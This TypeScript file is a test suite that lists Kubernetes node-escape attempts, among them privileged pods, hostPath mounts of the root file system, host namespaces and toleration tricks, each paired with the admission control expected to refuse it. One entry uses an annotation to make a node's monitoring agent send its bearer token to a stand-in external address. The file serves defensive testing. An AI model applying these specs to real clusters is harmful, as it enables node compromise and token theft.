import { type Fields, object } from "../../support/objects/object.js";
import { deployment, pod as podOf, podSpec, securityContext } from "../../support/objects/workloads.js";
import { attacksOf, type DeclaredAttack } from "../attack.js";
import { creates } from "../attempts.js";
import type { BenchmarkId } from "../benchmarks.js";
import { cannot } from "./messages.js";

const { ofContainer, ofPod } = securityContext;
const privileged = podSpec(ofContainer({ privileged: true, allowPrivilegeEscalation: undefined }));
const hostPort: Fields = { ports: [{ containerPort: 8080, hostPort: 8080 }] };
const hostPorts = {
  control: "fleet-host-ports",
  message: /pods must not use ports of their node: remove hostPort and hostNetwork/,
} as const;

/** A pod that Pod Security refuses. @param message the part of it that names the violation */
function pod(id: string, title: string, message: string, spec: Fields, benchmark?: BenchmarkId): DeclaredAttack {
  return {
    id,
    title,
    ...(benchmark === undefined ? {} : { benchmark }),
    stoppedBy: [
      { control: "pod-security", message: new RegExp(`violates PodSecurity "restricted:latest":.*${message}`) },
    ],
    attempt: creates((place) => podOf(place, spec)),
  };
}

const agents = (message: RegExp) => ({ control: "fleet-node-agents", message }) as const;

/** The node, or the network around it. */
export const escapes = attacksOf("escape", [
  pod("privileged", "runs a privileged container", "privileged", privileged, "privileged"),
  pod(
    "capability",
    "adds a capability",
    "unrestricted capabilities",
    podSpec(ofContainer({ capabilities: { drop: ["ALL"], add: ["SYS_ADMIN"] } })),
    "capabilities",
  ),
  pod(
    "privilege-escalation",
    "lets processes get more privileges",
    "allowPrivilegeEscalation != false",
    podSpec(ofContainer({ allowPrivilegeEscalation: true })),
    "privilege-escalation",
  ),
  pod("root-user", "runs as root", "runAsUser=0", podSpec({}, ofPod({ runAsUser: 0 })), "non-root"),
  pod(
    "any-user",
    "does not declare that it runs as a user other than root",
    "runAsNonRoot != true",
    podSpec({}, { securityContext: { seccompProfile: { type: "RuntimeDefault" } } }),
    "non-root",
  ),
  pod(
    "host-path",
    "mounts the node's file system",
    'restricted volume types.*type "hostPath"',
    podSpec({}, { volumes: [{ name: "host", hostPath: { path: "/" } }] }),
    "host-path",
  ),
  pod(
    "host-pid",
    "sees the node's processes",
    "host namespaces.*hostPID=true",
    podSpec({}, { hostPID: true }),
    "host-pid",
  ),
  pod(
    "host-ipc",
    "shares the node's memory",
    "host namespaces.*hostIPC=true",
    podSpec({}, { hostIPC: true }),
    "host-ipc",
  ),
  pod(
    "seccomp",
    "makes any system call",
    "seccompProfile",
    podSpec(ofContainer({ seccompProfile: { type: "Unconfined" } })),
  ),
  pod(
    "app-armor",
    "runs without AppArmor",
    "forbidden AppArmor profile",
    podSpec(ofContainer({ appArmorProfile: { type: "Unconfined" } })),
  ),
  pod(
    "se-linux",
    "chooses the SELinux type of its node's own programs",
    "seLinuxOptions",
    podSpec(ofContainer({ seLinuxOptions: { type: "spc_t" } })),
  ),
  pod(
    "sysctl",
    "sets a parameter of the node's kernel",
    "forbidden sysctls",
    podSpec({}, ofPod({ sysctls: [{ name: "kernel.msgmax", value: "1" }] })),
  ),
  {
    id: "host-network",
    title: "uses the node's network",
    benchmark: "host-network",
    stoppedBy: [{ control: "pod-security", message: /violates PodSecurity.*hostNetwork=true/ }, hostPorts],
    attempt: creates((place) => podOf(place, podSpec({}, { hostNetwork: true }))),
  },
  {
    id: "host-port",
    title: "takes a port of its node",
    benchmark: "host-network",
    stoppedBy: [{ control: "pod-security", message: /violates PodSecurity.*hostPort/ }, hostPorts],
    attempt: creates((place) => podOf(place, podSpec(hostPort))),
  },
  {
    id: "host-port-of-deployment",
    title: "makes a Deployment whose pods take a port of their node",
    stoppedBy: [hostPorts],
    attempt: creates((place) => deployment(place, podSpec(hostPort))),
  },
  {
    id: "node-by-name",
    title: "makes a Deployment of pods on a node of its choice, past the scheduler and its taints",
    stoppedBy: [{ control: "fleet-nodes", message: /the scheduler must choose the node of a pod: remove nodeName/ }],
    attempt: creates((place) => deployment(place, podSpec({}, { nodeName: "control-plane-0" }))),
  },
  ...(
    [
      ["every-taint", "runs on every node, with a toleration of every taint", { operator: "Exists" }],
      [
        "control-plane-taint",
        "runs on the nodes of the control plane",
        { key: "node-role.kubernetes.io/control-plane", operator: "Exists" },
      ],
      [
        "drained-node",
        "runs on nodes that are being drained",
        { key: "node.kubernetes.io/unschedulable", operator: "Exists", effect: "NoSchedule" },
      ],
      [
        "node-without-network",
        "runs on a node whose network plugin does not enforce network policies yet",
        { key: "node.cilium.io/agent-not-ready", operator: "Exists" },
      ],
      [
        "pool-of-neighbour",
        "runs on nodes that are kept for its neighbour",
        { key: "dedicated", operator: "Equal", value: "team-search", effect: "NoSchedule" },
      ],
    ] as const
  ).map(
    ([id, title, toleration]): DeclaredAttack => ({
      id,
      title,
      stoppedBy: [
        {
          control: "fleet-nodes",
          message: /pods must not run on nodes that are kept for others, are not ready or are being removed/,
        },
      ],
      attempt: creates((place) => podOf(place, podSpec({}, { tolerations: [toleration] }))),
    }),
  ),
  {
    id: "runtime-class",
    title: "makes a Deployment that runs in a container runtime of its choice",
    stoppedBy: [agents(/pods must run in the container runtime that the platform offers: remove runtimeClassName/)],
    attempt: creates((place) => deployment(place, podSpec({}, { runtimeClassName: "privileged" }))),
  },
  {
    id: "permissive-profile",
    title: "makes a Deployment that is confined by a profile of its node of its choice, also one that forbids nothing",
    stoppedBy: [agents(/pods must not choose a profile of the node, because it may confine less/)],
    attempt: creates((place) =>
      deployment(place, podSpec(ofContainer({ appArmorProfile: { type: "Localhost", localhostProfile: "runc" } }))),
    ),
  },
  {
    id: "scheduler-of-choice",
    title: "makes a Deployment whose pods another scheduler places by rules of its own",
    stoppedBy: [
      {
        control: "fleet-nodes",
        message: /pods must be scheduled by the scheduler of the cluster.*: remove schedulerName/,
      },
    ],
    attempt: creates((place) => deployment(place, podSpec({}, { schedulerName: "fargate-scheduler" }))),
  },
  ...(
    [
      ["node-device", "gets a device of its node by an annotation", "cdi.k8s.io/disk"],
      ["second-network", "joins another network by an annotation", "k8s.v1.cni.cncf.io/networks"],
      ["address-of-choice", "takes an address of its choice by an annotation", "cni.projectcalico.org/ipAddrs"],
      ["role-of-node", "gets any role in the cloud by an annotation", "iam.amazonaws.com/role"],
    ] as const
  ).map(
    ([id, title, key]): DeclaredAttack => ({
      id,
      title,
      stoppedBy: [agents(/pods must not have annotations or labels that a network plugin, a container runtime/)],
      attempt: creates((place) => podOf({ ...place, annotations: { [key]: "x" } })),
    }),
  ),
  {
    id: "agent-checks-any-address",
    title: "has an agent of its node send the agent's own token to any address, by an annotation",
    stoppedBy: [
      agents(/the annotations ad\.datadoghq\.com\/web\.checks of pods are not known to concern the pod alone/),
    ],
    attempt: creates((place) =>
      podOf({
        ...place,
        annotations: {
          "ad.datadoghq.com/web.checks":
            '{"openmetrics": {"instances": [{"openmetrics_endpoint": "http://203.0.113.7", "bearer_token_auth": true}]}}',
        },
      }),
    ),
  },
  {
    id: "agent-reads-logs",
    title: "has an agent of its node read the log files of other pods, by an annotation of its Deployment",
    stoppedBy: [agents(/the annotations co\.elastic\.logs\/raw of pods are not known to concern the pod alone/)],
    attempt: creates((place) =>
      deployment(
        place,
        podSpec(),
        {},
        {
          annotations: { "co.elastic.logs/raw": '[{"type": "filestream", "paths": ["/var/log/containers/*.log"]}]' },
        },
      ),
    ),
  },
  {
    id: "inline-volume",
    title: "mounts the files of any server by a storage driver that runs on the node",
    stoppedBy: [
      {
        control: "fleet-volumes",
        message: /volumes of pods must not name a server or a driver of storage: claim a volume instead/,
      },
    ],
    attempt: creates((place) =>
      podOf(
        place,
        podSpec(
          {},
          {
            volumes: [{ name: "data", csi: { driver: "nfs.csi.k8s.io", volumeAttributes: { server: "203.0.113.7" } } }],
          },
        ),
      ),
    ),
  },
  {
    id: "privileged-deployment",
    title: "makes a Deployment of privileged pods",
    stoppedBy: [
      {
        control: "fleet-pod-security",
        message: /pods must follow Pod Security restricted: remove securityContext\.privileged \(main\)/,
      },
      { control: "pod-security", message: /violates PodSecurity "restricted:latest": privileged/ },
    ],
    attempt: (place) => ({
      kind: "deployment",
      object: deployment({ ...place, name: "privileged-deployment" }, privileged),
    }),
  },
  {
    id: "host-volume",
    title: "makes a PersistentVolume of the node's file system",
    benchmark: "host-path",
    stoppedBy: [{ control: "own-namespace", message: cannot("create", "persistentvolumes") }],
    attempt: creates(() =>
      object(
        "PersistentVolume",
        {},
        {
          spec: { capacity: { storage: "1Gi" }, accessModes: ["ReadWriteOnce"], hostPath: { path: "/" } },
        },
      ),
    ),
  },
]);
